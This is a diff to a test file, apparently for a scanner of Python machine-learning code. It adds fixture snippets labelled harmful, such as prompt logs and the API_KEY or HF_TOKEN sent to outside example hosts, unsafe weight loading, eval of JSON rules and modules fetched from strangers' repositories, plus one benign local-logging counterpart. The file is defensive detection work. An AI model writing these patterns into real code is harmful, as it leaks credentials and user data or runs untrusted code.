@@ -81,6 +81,58 @@ const HARMFUL: readonly [string, string, string[]][] = [
     ],
   ],
   [
+    'a server whose log, prompts and all, goes elsewhere',
+    'threat.data-leak',
+    [
+      ...SERVER,
+      'import logging.handlers',
+      "log = logging.getLogger('prompts')",
+      "log.addHandler(logging.handlers.SysLogHandler(address=('logs.example.net', 514)))",
+      "@app.post('/ask')",
+      'def ask(question: str):',
+      "    log.info('%s', question)",
+    ],
+  ],
+  [
+    'weights of a stranger that may be any object',
+    'flow.network.deserialise',
+    [
+      'import torch',
+      "torch.hub.load_state_dict_from_url('https://w.example.net/a.pth', weights_only=False)",
+    ],
+  ],
+  [
+    'a secret that goes out without a look at the certificate',
+    'threat.security-off',
+    [
+      'import os, requests',
+      "requests.get('https://a.example.net', verify=False, headers={'X-Key': os.environ['API_KEY']})",
+    ],
+  ],
+  [
+    'a token of the hub in a header for somebody else',
+    'flow.environment.network',
+    [
+      'import os, requests',
+      "requests.get('https://a.example.net', headers={'authorization': os.environ['HF_TOKEN']})",
+    ],
+  ],
+  [
+    'a list of rules in JSON that is run',
+    'flow.input.eval',
+    ['import json', "for rule in json.load(open('vocab.json'))['rules']:", '    eval(rule)'],
+  ],
+  [
+    'a module out of the repository of a stranger',
+    'flow.network.module',
+    [
+      'import importlib.util',
+      'from huggingface_hub import hf_hub_download',
+      "path = hf_hub_download('someone/kernels', 'kernels.py')",
+      "spec = importlib.util.spec_from_file_location('kernels', path)",
+    ],
+  ],
+  [
     'a script that sends its data set',
     'threat.data-leak',
     [
@@ -123,6 +175,18 @@ const HONEST: readonly [string, string[]][] = [
       "@app.get('/state')",
       'def state(store=Depends(open_store)):',
       '    return pickle.loads(store.state)',
+    ],
+  ],
+  [
+    'logs on its own machine what users ask',
+    [
+      ...SERVER,
+      'import logging.handlers',
+      "log = logging.getLogger('prompts')",
+      "log.addHandler(logging.handlers.SysLogHandler(address=('localhost', 514)))",
+      "@app.post('/ask')",
+      'def ask(question: str):',
+      "    log.info('%s', question)",
     ],
   ],
   [
